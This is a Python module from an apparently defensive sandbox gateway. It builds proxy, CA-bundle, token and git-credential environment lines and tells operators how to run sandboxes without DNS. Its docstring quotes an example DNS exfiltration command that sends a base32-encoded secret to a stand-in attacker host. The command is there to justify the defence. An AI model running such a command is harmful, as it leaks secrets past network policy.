"""The environment a sandbox needs: proxy URL with its token, CA bundle, API-key vars.

The `*_API_KEY` variables hold the gateway token, never a key: SDKs put it in their
usual header and the gateway swaps it for the real key on the way out. The same goes
for credentials the gateway mints: `GH_TOKEN`/`GITHUB_TOKEN` (gh, GitHub API clients),
a git credential helper for the GitHub hosts that answers the token as the password
(set through `GIT_CONFIG_*` variables, no file, no GIT_ASKPASS), AWS placeholder keys
with the token as `AWS_SESSION_TOKEN` (the gateway re-signs with real keys), and
`CLOUDSDK_AUTH_ACCESS_TOKEN` (gcloud) for Google.

A sandbox that uses the proxy needs no DNS resolver: the gateway resolves every name
(after the policy allowed it). Giving it one opens a side channel around the policy
(data in query names, `nslookup $(base32 < secret).attacker.example`), so `dns_note`
tells the operator how to run without one.
"""

from __future__ import annotations

import ipaddress
from urllib.parse import quote, urlsplit, urlunsplit

from gateway.tokens import unverified_claims

CA_VARIABLES = (
    "SSL_CERT_FILE",          # Python ssl, OpenSSL-based tools
    "REQUESTS_CA_BUNDLE",     # requests
    "CURL_CA_BUNDLE",         # curl
    "NODE_EXTRA_CA_CERTS",    # Node.js
    "GIT_SSL_CAINFO",         # git
    "AWS_CA_BUNDLE",          # AWS SDKs and CLI
    "PIP_CERT",               # pip
)
API_KEY_VARIABLES = (
    "OPENAI_API_KEY", "ANTHROPIC_API_KEY", "AZURE_OPENAI_API_KEY", "GEMINI_API_KEY",
    "GOOGLE_API_KEY", "MISTRAL_API_KEY", "GROQ_API_KEY", "OPENROUTER_API_KEY", "HF_TOKEN",
    "GH_TOKEN", "GITHUB_TOKEN", "AWS_SESSION_TOKEN", "CLOUDSDK_AUTH_ACCESS_TOKEN",
)
#: AWS SDKs sign with these; the gateway strips that signature and signs with real keys.
AWS_PLACEHOLDERS = (("AWS_ACCESS_KEY_ID", "SANDBOXGATEWAYPLACEHOLDER"),
                    ("AWS_SECRET_ACCESS_KEY", "sandbox-gateway-placeholder-not-a-key"))
#: git asks this helper after a 401: the token (from $GH_TOKEN) as the Basic password.
GIT_HELPER = ('!f() { test "$1" = get || return 0; echo username=x-access-token; '
              'echo "password=$GH_TOKEN"; }; f')


def proxy_url(proxy: str, sandbox: str, token: str) -> str:
    """`http://gateway:8080` -> `http://<sandbox>:<token>@gateway:8080`."""
    parts = urlsplit(proxy if "://" in proxy else f"http://{proxy}")
    netloc = f"{quote(sandbox, safe='')}:{quote(token, safe='')}@{parts.hostname}"
    if ":" in (parts.hostname or ""):
        netloc = f"{quote(sandbox, safe='')}:{quote(token, safe='')}@[{parts.hostname}]"
    if parts.port:
        netloc += f":{parts.port}"
    return urlunsplit((parts.scheme or "http", netloc, "", "", ""))


def dns_note(proxy: str) -> list[str]:
    """Lines for the operator (not the env file): the sandbox needs no resolver, and how
    to run it without one when the proxy address is a name."""
    host = urlsplit(proxy if "://" in proxy else f"http://{proxy}").hostname or ""
    lines = [
        "# DNS: a sandbox using this proxy needs no resolver: the gateway resolves names",
        "# after its policy allows them, and a resolver in the sandbox is a way around the",
        "# policy (data leaves in query names). Run it without one: Kubernetes",
        "# `dnsPolicy: None` + `dnsConfig: {nameservers: [127.0.0.1]}` (the pod's own",
        "# loopback, where nothing answers: Kubernetes wants one nameserver), Docker",
        "# `-v /dev/null:/etc/resolv.conf:ro`; in transparent mode, the gateway's own",
        "# resolver (listen.dns) as the only nameserver.",
    ]
    try:
        ipaddress.ip_address(host)
    except ValueError:
        lines.append(f"# The proxy address {host!r} is a name: without DNS the sandbox must find "
                     "it in /etc/hosts (Kubernetes `hostAliases`, Docker `--add-host`), or use")
        lines.append("# the gateway's IP address (its Service ClusterIP) in --proxy.")
    return lines


def git_config(hosts: tuple[str, ...] = ("github.com",)) -> list[str]:
    """`GIT_CONFIG_*` lines: the credential helper for each of `hosts` only (a helper
    for every host would hand the token to any server that asks)."""
    lines = [f"GIT_CONFIG_COUNT={len(hosts)}"]
    for i, host in enumerate(hosts):
        lines += [f"GIT_CONFIG_KEY_{i}=credential.https://{host}.helper",
                  f"GIT_CONFIG_VALUE_{i}={GIT_HELPER}"]
    return lines


def sandbox_env(token: str, proxy: str, sandbox: str | None = None,
                ca_bundle: str = "/etc/sandbox-gateway/ca-bundle.pem",
                git_hosts: tuple[str, ...] = ("github.com",)) -> list[str]:
    """`KEY=value` lines for a sandbox (an env file for `docker run --env-file`)."""
    sandbox = sandbox or str(unverified_claims(token).get("sub") or "sandbox")
    url = proxy_url(proxy, sandbox, token)
    lines = [f"HTTPS_PROXY={url}", f"HTTP_PROXY={url}", f"https_proxy={url}",
             f"http_proxy={url}", "NO_PROXY=localhost,127.0.0.1,::1",
             "no_proxy=localhost,127.0.0.1,::1"]
    lines += [f"{var}={ca_bundle}" for var in CA_VARIABLES]
    lines += [f"{var}={token}" for var in API_KEY_VARIABLES]
    lines += [f"{var}={value}" for var, value in AWS_PLACEHOLDERS]
    if git_hosts:
        lines += git_config(git_hosts)
    return lines
